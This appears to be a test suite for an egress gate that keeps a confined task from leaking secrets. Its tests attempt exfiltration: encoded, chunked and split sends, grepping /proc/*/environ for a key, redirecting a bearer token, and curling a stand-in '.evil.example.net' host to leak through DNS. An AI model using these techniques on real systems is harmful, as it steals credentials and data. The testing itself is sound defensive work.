// P7 and P3 on the network, part two: what a request says. A value that must not leave, in every spelling; credentials that
// only the gate holds; and the known limits, each asserted as what it is. From inside a real task, checked at the upstream.
import { createCipheriv, randomBytes } from "node:crypto";
import { globSync, readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import type { AccountName } from "../enforce/confined-runner.ts";
import { API, gateSuite, many, owned } from "./gate-suite.ts";
import { b64, gzip, json, LEAKS, REFUSED_ENCODINGS, type Sent, VALUE } from "./leaks.ts";
import type { During, LiveTask } from "./live-task.ts";
import { echo, headersOf, textOf } from "./upstream.ts";

const KEYED = "key.home.arpa";
/** What must never leave, and what only the gate puts in. */
const LOWER = "9f86d081884c7d659a2feaa0c55ad015";
const KEY = "sk-live-4e8a1c7d2f60b935";

const suite = gateSuite({
  handlers: {
    echo,
    zipped: ({ rawHeaders }, answer) => {
      answer.setHeader("content-encoding", "gzip");
      answer.end(gzipSync(rawHeaders.join("\n")));
    },
    redirect: (_, answer, request) => {
      const to = new URL(request.url ?? "", "https://x").searchParams.get("to") ?? "";
      answer.statusCode = 307;
      answer.setHeader("location", to);
      answer.end();
    },
  },
  plan: (up, { root }) => ({
    files: { "keys/api": `${KEY}\n`, "keys/guarded.env": `# kept\nDEPLOY_TOKEN=${VALUE}\nLOWER=${LOWER}\n` },
    protected: [`${root}/keys/guarded.env`],
    endpoints: [owned(API, up), owned(KEYED, up)],
    secrets: [
      {
        name: "API_KEY",
        file: `${root}/keys/api`,
        for: {
          host: KEYED,
          port: up.ports.https,
          methods: ["GET", "POST"],
          paths: ["/echo", "/zipped", "/redirect"],
          place: "bearer",
        },
      },
    ],
    needs: { secrets: ["API_KEY"] },
    calls: [API, KEYED].flatMap((host) =>
      ["GET", "POST", "PUT"].map((method) => many(`https://${host}:${up.ports.https}/`, method)),
    ),
  }),
});

interface Got {
  readonly status: number;
  readonly headers: string;
  readonly text: string;
}

/** One request from inside, by Node's https, which does not read proxy variables: captured, not asked for. */
const REQUEST = `
  const { request } = await import("node:https");
  return await new Promise((resolve, reject) => {
    const { url, method, headers, body } = v;
    const outgoing = request(url, { method, headers }, (answer) => {
      let text = "";
      answer.on("data", (chunk) => (text += chunk.toString("latin1")));
      answer.on("error", reject);
      answer.on("end", () => resolve({ status: answer.statusCode, headers: answer.rawHeaders.join("\\n"), text }));
    });
    outgoing.on("error", reject);
    outgoing.end(Buffer.from(body, "base64"));
  });`;

function send(
  task: LiveTask,
  { host = API, method = "POST", path = "/echo/", headers = {}, body = "" }: Sent,
): Promise<Got> {
  const bytes = Buffer.from(body as string);
  const length = method === "GET" && bytes.length === 0 ? {} : { "content-length": String(bytes.length) };
  const values = {
    url: `${suite.https(host)}${path}`,
    method,
    headers: { ...headers, ...length },
    body: bytes.toString("base64"),
  };
  return task.js(REQUEST, values) as Promise<Got>;
}

/** Refused with that cause, told without the value, and not a byte arrived. */
function expectKept({ value, events, reached }: During<Got>, cause: string): void {
  expect(reached.map(textOf)).toEqual([]);
  expect([value.status, JSON.parse(value.text)]).toEqual([
    403,
    expect.objectContaining({ cause, retryable: false }),
  ]);
  expect(value.text).not.toContain(VALUE);
  expect(value.text).not.toContain(KEY);
  expect(events.map((one) => [one.decision, one.cause, one.bytes_out])).toEqual([["refuse", cause, 0]]);
}

describe.each(suite.accounts)("a task of %s cannot", (account: AccountName) => {
  const task = (): LiveTask => suite.of(account).task;
  const during = (sent: Sent): Promise<During<Got>> => task().during((live) => send(live, sent));

  it("(a body without the value arrives as it is)", async () => {
    const { value, reached, events } = await during({ headers: gzip, body: gzipSync("nothing to hide") });
    expect(value.status).toBe(200);
    expect(reached.map(({ body }) => body)).toEqual([gzipSync("nothing to hide")]);
    expect(events).toMatchObject([{ decision: "allow", via: "transparent", cause: null }]);
  });

  it.each(LEAKS)("P7 send a protected value in %s", async (_, sent) => {
    expectKept(await during(sent), "protected_value");
  });

  it.each(REFUSED_ENCODINGS)("P3 send %s", async (_, sent) => {
    expectKept(await during(sent), "encoding_refused");
  });

  it("P7 send it in chunks, over two fields of one name, in trailers, or over HTTP/2", async () => {
    const values = { url: `${suite.https(API)}/echo/`, value: VALUE };
    const chunked = `
      const { request } = await import("node:https");
      return await new Promise((resolve, reject) => {
        const outgoing = request(v.url, { method: "POST" }, (answer) => answer.resume().on("end", () => resolve(answer.statusCode)));
        outgoing.on("error", reject);
        outgoing.write(v.value.slice(0, 7));
        setTimeout(() => { outgoing.write(v.value.slice(7, 12)); setTimeout(() => outgoing.end(v.value.slice(12)), 20); }, 20);
      });`;
    const trailers = `
      const { request } = await import("node:https");
      return await new Promise((resolve, reject) => {
        const outgoing = request(v.url, { method: "POST", headers: { trailer: "x-end", "transfer-encoding": "chunked" } }, (answer) => answer.resume().on("end", () => resolve(answer.statusCode)));
        outgoing.on("error", reject);
        outgoing.addTrailers({ "x-end": v.value });
        outgoing.end("x");
      });`;
    const curls = [
      `curl -sS -o /dev/null -w '%{http_version} %{http_code} ' -H "x-a: \${V:0:9}" -H "x-a: \${V:9}" "$U"`,
      `curl -sS -o /dev/null -w '%{http_version} %{http_code} ' --http2 -H "x-a: $V" "$U"`,
      `curl -sS -o /dev/null -w '%{http_version} %{http_code} ' --http2 -d "$V" "$U"`,
      `curl -sS -o /dev/null -w '%{http_version} %{http_code} ' --http1.1 -G -d "$V" "$U"`,
      `python3 -c 'import os, urllib.request as u, urllib.error as e
try: u.urlopen(os.environ["U"], data=os.environ["V"].encode())
except e.HTTPError as error: print(error.code)'`,
    ];
    const { value, events, reached } = await task().during(async (live) => [
      await live.js(chunked, values),
      await live.js(trailers, values),
      (await live.sh(curls.join("\n"), { U: values.url, V: VALUE })).stdout.trim(),
    ]);
    expect(reached.map(textOf)).toEqual([]);
    expect(value).toEqual([403, 403, "2 403 2 403 2 403 1.1 403 403"]);
    expect(events.map(({ cause }) => cause)).toEqual([
      "protected_value",
      "trailers_refused",
      ...Array.from({ length: 5 }, () => "protected_value"),
    ]);
  });

  it("P7 find the credential anywhere inside", async () => {
    const script = `
      env | grep -c "$W"; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c "$W";
      grep -rsl "$W" /tmp /etc /run /var/tmp "$PWD" | wc -l; cat ${suite.of(account).place.root}/keys/api 2>&1 | grep -c "$W"; echo "$API_KEY"`;
    // The script is asked for the value's parts, so that its own words are no find.
    const { stdout } = await task().sh(`W="${KEY.slice(0, 9)}""${KEY.slice(9)}"; export -n W; ${script}`);
    expect(stdout).toMatch(/^0\n0\n0\n0\nwrit-placeholder-[0-9a-f]{48}\n$/);
  });

  it("P7 see the credential that the gate puts in, though the upstream says everything it was told", async () => {
    const { value, reached, events } = await task().during(async (live) => {
      const placeholder = (await live.js("return h.env.API_KEY")) as string;
      const headers = { authorization: `Bearer ${placeholder}` };
      return [
        await send(live, { host: KEYED, method: "GET", headers }),
        await send(live, { host: KEYED, method: "GET" }),
        placeholder,
      ];
    });
    const [asked, unasked, placeholder] = value as unknown as readonly [Got, Got, string];
    expect(reached.map((one) => headersOf(one, "authorization"))).toEqual([
      [`Bearer ${KEY}`],
      [`Bearer ${KEY}`],
    ]);
    for (const got of [asked, unasked]) {
      expect(got.status).toBe(200);
      expect(`${got.headers}${got.text}`).not.toContain(KEY);
      expect(got.text).toContain(`Bearer ${placeholder}`);
    }
    expect(events.map(({ decision }) => decision)).toEqual(["allow", "allow"]);
  });

  it("P3 read an answer of a credentialed endpoint that is compressed and so cannot be masked", async () => {
    const { value, events } = await during({ host: KEYED, method: "GET", path: "/zipped" });
    expect([value.status, JSON.parse(value.text)]).toEqual([
      502,
      expect.objectContaining({ cause: "answer_encoded" }),
    ]);
    expect(events).toMatchObject([{ decision: "error", cause: "answer_encoded" }]);
  });

  it.each<readonly [string, Sent]>([
    ["its own Bearer", { headers: { authorization: "Bearer sk-of-the-attacker" } }],
    ["its own Basic", { headers: { authorization: `Basic ${b64("attacker:password")}` } }],
    ["its own API key", { headers: { "x-api-key": "attacker" } }],
    ["its own API key, with underscores", { headers: { x_api_key: "attacker" } }],
    ["its own cookie", { headers: { cookie: "session=attacker" } }],
    ["a key in the query", { path: "/echo/?api_key=attacker" }],
    ["an escaped key in the query", { path: "/echo/?%61ccess%5ftoken=attacker" }],
  ])("P7 authenticate with %s where the gate does", async (_, sent) => {
    expectKept(await during({ host: KEYED, method: "GET", ...sent }), "foreign_credential");
  });

  it("P7 have a proxy's authorization passed on", async () => {
    const headers = { "proxy-authorization": `Basic ${b64("attacker:password")}` };
    const { reached } = await during({ host: KEYED, method: "GET", headers });
    expect(reached.map((one) => headersOf(one, "proxy-authorization"))).toEqual([[]]);
  });

  it("P7 authenticate with userinfo in a URL, where the gate does", async () => {
    const url = suite.https(`attacker:password@${KEYED}`);
    const { value, reached, events } = await task().during((live) => live.sh(`curl -sS ${url}/echo/`));
    expect(reached).toEqual([]);
    expect(JSON.parse(value.stdout)).toMatchObject({ cause: "foreign_credential" });
    expect(events).toMatchObject([{ decision: "refuse", cause: "foreign_credential" }]);
  });

  it.each<readonly [string, (placeholder: string) => Sent]>([
    ["a published field", (one) => ({ body: JSON.stringify({ comment: one }) })],
    ["a published field, encoded", (one) => ({ body: b64(one) })],
    ["the URL", (one) => ({ method: "GET", path: `/echo/?q=${one}` })],
    ["another header", (one) => ({ method: "GET", headers: { "x-note": one } })],
    [
      "its place, with more behind it",
      (one) => ({ method: "GET", headers: { authorization: `Bearer ${one}x` } }),
    ],
    ["its place and a field", (one) => ({ headers: { authorization: `Bearer ${one}` }, body: one })],
    [
      "a path it is not bound to",
      (one) => ({ method: "GET", path: "/other", headers: { authorization: `Bearer ${one}` } }),
    ],
    [
      "a method it is not bound to",
      (one) => ({ method: "PUT", headers: { authorization: `Bearer ${one}` } }),
    ],
    [
      "a host it is not bound to",
      (one) => ({ host: API, method: "GET", headers: { authorization: `Bearer ${one}` } }),
    ],
  ])("P7 have its placeholder filled in in %s", async (_, of) => {
    const placeholder = (await task().js("return h.env.API_KEY")) as string;
    const done = await during({ host: KEYED, ...of(placeholder) });
    expectKept(done, "placeholder_misplaced");
  });

  it("P7 lead the credential away by a redirect", async () => {
    const to = `${suite.https(API)}/echo/stolen`;
    const { value, reached, events } = await task().during((live) =>
      live.sh(
        `curl -sS -L --location-trusted -H "authorization: Bearer $API_KEY" '${suite.https(KEYED)}/redirect?to=${to}'`,
      ),
    );
    expect(reached.map(({ url }) => url.split("?")[0])).toEqual(["/redirect"]);
    expect(JSON.parse(value.stdout)).toMatchObject({ cause: "placeholder_misplaced" });
    expect(events.map(({ cause }) => cause)).toEqual([null, "placeholder_misplaced"]);
  });

  it("P7 send the real credential from elsewhere, if somebody told it", async () => {
    for (const host of [API, KEYED])
      expectKept(await during({ host, body: `x${b64(KEY)}` }), "protected_value");
  });

  it("P7 have what it tried to send kept in the ledger, not even as a name that was refused", async () => {
    const { place } = suite.of(account);
    const { events, reached } = await task().during(async (live) => {
      await send(live, { method: "DELETE", path: `/echo/${VALUE}` });
      const evil = `${LOWER}.evil.example.net`;
      await live.sh(
        `curl -s https://${evil}/; curl -s http://${evil}/; curl -s --noproxy '*' http://${evil}/; true`,
      );
      await live.js("return h.secure(v[0], { servername: v[1] }).catch(() => null)", [
        `${API}:${suite.up().ports.https}`,
        evil,
      ]);
    });
    expect(reached).toEqual([]);
    expect(events.map(({ via, decision }) => `${decision} ${via}`)).toEqual([
      "refuse transparent",
      "refuse connect",
      "refuse proxy",
      "refuse dns",
      "refuse connect",
    ]);
    const files = globSync(`${place.home}/**`, { withFileTypes: true }).filter((entry) => entry.isFile());
    const texts = files.map((entry) => readFileSync(`${entry.parentPath}/${entry.name}`, "latin1"));
    expect(texts.join("")).toContain("name_not_granted");
    for (const value of [VALUE, LOWER, KEY]) expect(texts.filter((text) => text.includes(value))).toEqual([]);
  });

  const rot13 = VALUE.replaceAll(/[a-z]/giu, (one) =>
    String.fromCharCode(one.charCodeAt(0) + (one.toLowerCase() < "n" ? 13 : -13)),
  );
  it.each<readonly [string, Sent]>([
    [
      "split over two fields of a body",
      { headers: json, body: JSON.stringify({ a: VALUE.slice(0, 11), b: VALUE.slice(11) }) },
    ],
    ["in a code that no list names (rot13)", { body: rot13 }],
    ["under a mask of one byte", { body: Buffer.from(VALUE).map((byte) => byte ^ 0x5a) }],
  ])("P7 send a protected value %s", async (_, sent) => {
    expectKept(await during(sent), "protected_value");
  });

  it("(known limit: encryption inside an allowed body passes, and is left to detectors, labels and budgets)", async () => {
    const cipher = createCipheriv("aes-256-ctr", randomBytes(32), randomBytes(16));
    const body = cipher.update(VALUE);
    const { value, reached, events } = await during({ body });
    expect(value.status).toBe(200);
    expect(reached.map((one) => one.body)).toEqual([body]);
    expect(events).toMatchObject([{ decision: "allow", cause: null, findings: [] }]);
    expect(events[0]?.bytes_out).toBeGreaterThanOrEqual(body.length);
  });

  it("P8 send it split over requests: the second half is refused", async () => {
    const { value, reached, events } = await task().during(async (live) => [
      await send(live, { method: "PUT", body: VALUE.slice(0, 11) }),
      await send(live, { method: "PUT", body: VALUE.slice(11) }),
    ]);
    expect(reached.map(({ body }) => body.toString())).toEqual([VALUE.slice(0, 11)]);
    expect((value as unknown as readonly Got[]).map(({ status }) => status)).toEqual([200, 403]);
    expect(events.map(({ decision, cause }) => [decision, cause])).toEqual([
      ["allow", null],
      ["refuse", "protected_value"],
    ]);
  });
});
